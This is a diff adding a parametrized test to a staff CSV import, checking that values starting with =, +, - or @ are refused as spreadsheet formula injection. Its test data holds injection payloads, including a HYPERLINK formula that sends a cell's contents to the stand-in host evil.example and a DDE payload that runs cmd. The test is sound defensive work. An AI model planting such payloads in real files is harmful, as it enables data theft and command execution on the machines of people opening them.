@@ -223,6 +223,31 @@ def test_a_service_refusal_rolls_back_everything(cast: Any) -> None:
     assert not Membership.objects.filter(person=cast.practitioner, starts_on="2019-01-01")
 
 
+@pytest.mark.parametrize(
+    ("column", "value"),
+    [
+        ("given_name", '=HYPERLINK("http://evil.example/?"&A1,"Click")'),
+        ("family_name", "+1+cmd|' /C calc'!A0"),
+        ("job_title", "-2+3"),
+        ("employee_number", "@SUM(1,1)"),
+        ("username", "=cmd"),
+    ],
+)
+def test_the_staff_import_refuses_a_name_a_spreadsheet_would_run_as_a_formula(
+    cast: Any, column: str, value: str
+) -> None:
+    """Issue 10 item 5: a value beginning with =, +, -, @, tab or carriage return in a name-like
+    column is refused with its row named, and nothing is imported."""
+    content = _csv([_row(1, cast.agency.name), _row(2, cast.agency.name, **{column: value})])
+    result = staff_import_csv(actor=cast.administrator, content=content)
+    assert not result.ok
+    assert result.errors == [
+        f"Row 3: {column} begins with “{value[0]}”, which a spreadsheet would run as a "
+        "formula; correct it in the file"
+    ]
+    assert not Person.objects.filter(email__in=["staff1@example.org", "staff2@example.org"])
+
+
 def test_missing_columns_and_bad_encoding(cast: Any) -> None:
     result = staff_import_csv(actor=cast.administrator, content=b"given_name,email\nA,a@b.org\n")
     assert "no column family_name, agency, job_title, start_date" in result.errors[0]
